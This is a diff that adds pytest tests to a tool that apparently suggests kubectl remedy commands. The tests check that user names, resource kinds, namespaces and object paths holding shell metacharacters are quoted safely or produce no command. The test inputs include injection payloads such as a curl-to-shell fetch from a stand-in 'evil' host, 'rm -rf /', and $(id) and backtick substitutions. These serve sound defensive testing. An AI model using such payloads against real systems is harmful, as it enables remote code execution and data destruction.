@@ -1,11 +1,13 @@
 """Cause and remedy fit the fault; one cause is one block, however many objects it befalls."""
 
+import shlex
+
 import pytest
 
 from leafcast.daemon.verbs.diagnosis import placement_facts
 from leafcast.doctor.findings import PlacementFinding
 from leafcast.doctor.placement_checks import placement_checks
-from leafcast.show.faults import FaultSample, faults
+from leafcast.show.faults import FaultGroup, FaultSample, faults
 from leafcast.show.tree_tables import placement_view, placements_view
 from schemas.reports.missing_rights import MissingRight, missing_right, reported
 from schemas.reports.reports import ExceptionSample
@@ -147,10 +149,65 @@ def test_an_account_of_ones_own_is_granted_by_a_rule():
     (fault,) = faults([sample(said)])
     assert "--resource=deployments.apps" in fault.remedy("")
     assert "kubectl create rolebinding leafcast-more -n shop" in fault.remedy("")
-    assert "--user='jane'" in fault.remedy("")
+    assert fault.remedy("").endswith("--user=jane")
     said = reported("Forbidden", refused("deployments", user="system:serviceaccount:a:b"))
     (fault,) = faults([sample(said)])
     assert "--serviceaccount=a:b" in fault.remedy("")
+
+
+@pytest.mark.parametrize("user", ["a'$(curl evil|sh)'", "jane; rm -rf /", "a`id`", "two words"])
+def test_a_users_name_is_one_word_of_the_command_that_grants(user):
+    said = reported("Forbidden", refused("deployments", user=user))
+    (fault,) = faults([sample(said)])
+    [right] = [right for right in (missing_right(said),) if right is not None]
+    *_, bound = fault.remedy("").partition("; kubectl create rolebinding ")
+    assert shlex.split(bound)[-1] == f"--user={right.user}"
+
+
+@pytest.mark.parametrize(
+    ("kind", "user", "namespace"),
+    [
+        ("deployments", "jane\nid", "shop"),
+        ("deployments", "jane\x1b[2J", "shop"),
+        ("$(id)", "jane", "shop"),
+        ("deployments", "jane", "$(id)"),
+    ],
+)
+def test_what_is_no_name_makes_no_command_that_grants(kind, user, namespace):
+    told = f"Forbidden: no right to get {kind} in the namespace {namespace}, as {user}"
+    (fault,) = faults([sample(told)])
+    assert (
+        fault.remedy("") == "in the cluster of /emea/s1: give the account the right that it lacks"
+    )
+
+
+@pytest.mark.parametrize(
+    "obj", ["deployments.apps/shop/web$(id)", "pods/$(id)/web", "`id`/shop/web", "pods/a\nid", ""]
+)
+@pytest.mark.parametrize("reason", ["CrashLoopBackOff", "ImagePullBackOff", "ill"])
+def test_what_is_no_name_of_an_object_stands_in_no_command(obj, reason):
+    fault = FaultGroup(faults([sample(reason, severity=2)])[0].kind, [sample(reason, obj, 2)])
+    remedy = fault.remedy("leafcast status shop")
+    assert "describe KIND NAME --at /emea/s1" in remedy
+    assert "id" not in remedy.replace("besides", "").split()
+    assert not set(remedy) & set("$`\n")
+    away = FaultGroup(fault.kind, [sample(reason, severity=2, path="/a$(id)")])
+    assert "--at PATH" in away.remedy("")
+
+
+@pytest.mark.parametrize(
+    ("reason", "name"),
+    [
+        ("Waiting: for the placement base to be healthy here", "Waiting"),
+        ("Sealed: no key", "Sealed"),
+        ("something else", "Place"),
+    ],
+)
+def test_what_befalls_a_whole_placement_is_of_the_kind_that_its_reason_names(reason, name):
+    (fault,) = faults([sample(reason, obj="", severity=AT_WORK)])
+    assert fault.kind.name == name
+    (of_kind,) = faults([sample(reason, obj="widgets.example.com", severity=2)])
+    assert of_kind.kind.name == "Place"
 
 
 def test_a_server_that_does_not_answer_is_one_block_for_all_placements():
